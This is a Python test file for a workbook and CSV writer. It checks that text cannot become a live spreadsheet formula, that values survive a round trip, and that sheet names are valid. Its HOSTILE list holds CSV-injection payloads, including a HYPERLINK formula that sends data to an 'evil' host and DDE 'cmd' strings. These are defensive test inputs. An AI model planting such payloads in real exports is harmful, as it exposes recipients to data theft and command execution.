"""The workbook and CSV writer (``restoration.workbook``): no text ever becomes a live formula,
every value is one a spreadsheet holds, sheet names Excel accepts."""
from __future__ import annotations

import datetime as dt
import io

import numpy as np
import openpyxl
import pandas as pd
import pytest

from restoration import workbook

#: texts a spreadsheet would evaluate (OWASP CSV injection), in ASCII and full width
HOSTILE = ['=HYPERLINK("http://evil/"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=cmd|' /C notepad'!'A1'"]
HARMLESS = ["石岭县某采石场越界开采破坏林地线索", "a=b", " =not at the start", "", "1e5", "'quoted"]


def _cells(data: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in wb for row in ws.iter_rows() for c in row]


def test_formula_like_texts():
    assert all(workbook.formula_like(t) for t in HOSTILE)
    assert not any(workbook.formula_like(t) for t in HARMLESS)
    assert workbook.csv_text("=1") == "'=1" and workbook.csv_text("a=1") == "a=1"


def test_no_text_cell_of_a_workbook_is_a_formula_and_texts_read_back_exactly():
    frame = pd.DataFrame({"title": HOSTILE + HARMLESS, "n": range(len(HOSTILE) + len(HARMLESS))})
    frame[HOSTILE[0]] = "header is hostile too"
    cells = _cells(workbook.workbook_bytes({"cases": frame, "again": [frame, "=caption", frame]}))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for t in HOSTILE:
        shown = t.replace("\r", "\n") if t.startswith("\r") else t  # XML normalises a bare CR
        assert shown in texts or t in texts, t
    quoted = {c.value for c in cells if c.quotePrefix}
    assert quoted >= {t for t in HOSTILE if not t.startswith("\r")} and not quoted & set(HARMLESS)
    assert HOSTILE[0] in {c.value for c in cells if c.row == 1}  # the header, as text


def test_numbers_dates_and_booleans_stay_what_they_are():
    frame = pd.DataFrame({"amount": [-5.0, 1e12, np.nan], "n": [-1, 2, 3], "ok": [True, False, None],
                          "day": [dt.date(2025, 1, 2), pd.Timestamp("2025-01-03 04:05"), None],
                          "when": [pd.Timestamp("2025-01-01T08:00", tz="Asia/Shanghai"), None, None]})
    back = pd.read_excel(io.BytesIO(workbook.workbook_bytes({"t": frame})))
    assert back["amount"].iloc[0] == -5.0 and back["n"].tolist() == [-1, 2, 3]
    assert back["day"].iloc[0] == pd.Timestamp("2025-01-02")
    assert back["when"].iloc[0] == pd.Timestamp("2025-01-01T00:00")  # as UTC: a cell holds no zone
    csv = workbook.csv_bytes(frame).decode("utf-8-sig")
    assert "-5.0,-1" in csv and "'-" not in csv  # a negative number is a number, not a text to quote


def test_values_a_cell_cannot_hold():
    frame = pd.DataFrame({"v": ["bell\x07here", "x" * 40_000, b"\x00\x01", {"a": [1, 2]}, [1, "二"],
                                float("inf"), None]}, dtype=object)
    cells = _cells(workbook.workbook_bytes({"t": frame}))
    values = [c.value for c in cells if c.column == 1][1:]
    assert values[0] == "bell\ufffdhere"
    assert len(values[1]) == workbook.MAX_CELL_CHARS and "cut: 40,000 characters" in values[1]
    assert values[2:] == ["<2 bytes>", '{"a": [1, 2]}', '[1, "二"]', "inf"]  # (None: an empty cell)


def test_sheet_names_excel_accepts():
    names = workbook.sheet_names(["案件台账 register", "a/b:c*?[d]", "x" * 40, "X" * 40, "'quoted'", "", "History",
                                  "案件台账 REGISTER"])
    assert names[0] == "案件台账 register" and names[1] == "a_b_c___d_"
    assert all(len(n) <= 31 and not set(n) & set("[]:*?/\\") and not n.startswith("'") for n in names)
    assert len({n.lower() for n in names}) == len(names) and "history" not in {n.lower() for n in names}
    wb = openpyxl.load_workbook(io.BytesIO(workbook.workbook_bytes({n: pd.DataFrame({"a": [1]})
                                                                    for n in ["a" * 40, "A" * 40 + "b"]})))
    assert len(wb.sheetnames) == 2


def test_header_frozen_and_widths_fitted(tmp_path):
    frame = pd.DataFrame({"名称 name": ["很长的中文名称" * 3, "x"], "n": [1, 2], "long": ["y" * 500, ""]})
    path = workbook.write_workbook(tmp_path / "book.xlsx", {"t": frame})
    ws = openpyxl.load_workbook(path)["t"]
    assert ws.freeze_panes == "A2" and ws["A1"].font.b
    widths = [ws.column_dimensions[c].width for c in "ABC"]
    assert widths[0] == pytest.approx(2 * 21 + 2) and widths[1] == 8 and widths[2] == 60


def test_csv_prefixes_formula_texts(tmp_path):
    frame = pd.DataFrame({"title": HOSTILE[:4] + ["plain"], "=header": range(5)})
    path = workbook.write_csv(tmp_path / "cases.csv", frame)
    back = pd.read_csv(path, encoding="utf-8-sig", dtype=str)
    assert list(back.columns) == ["title", "'=header"]
    assert back["title"].tolist() == ["'" + t for t in HOSTILE[:4]] + ["plain"]
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for Chinese text
